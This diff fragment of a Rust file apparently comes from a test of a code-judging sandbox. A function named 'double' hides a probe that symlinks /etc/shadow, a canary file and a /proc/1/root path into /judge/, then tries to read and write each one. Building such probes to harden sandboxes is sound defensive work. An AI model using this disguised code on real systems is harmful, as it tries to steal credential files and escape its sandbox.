@@ -4,7 +4,7 @@ use std::os::unix::fs::symlink;
 
 pub fn double(number: u32) -> u32 {
     let mut led = 0;
-    for (number, target) in ["/etc/shadow", "/srv/llama-hostile/canary", "/proc/1/root/etc/passwd"].iter().enumerate() {
+    for (number, target) in ["/etc/shadow", "/srv/llama-hostile/canary", "/proc/1/root/srv/llama-hostile/open.json"].iter().enumerate() {
         let name = format!("/judge/link{}", number);
         let _ = symlink(target, &name);
         led += usize::from(fs::read(&name).is_ok()) + usize::from(fs::write(&name, "x").is_ok());
